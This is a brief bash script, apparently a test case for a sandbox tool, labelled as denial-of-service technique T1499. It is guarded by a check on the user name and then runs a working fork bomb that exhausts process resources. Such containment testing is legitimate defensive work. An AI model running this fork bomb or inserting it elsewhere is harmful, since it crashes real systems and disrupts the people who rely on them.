#!/bin/bash
# technique: T1499
# needs: bash
# options: --timeout 8s --pids 64
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

:() { : | : & }; :
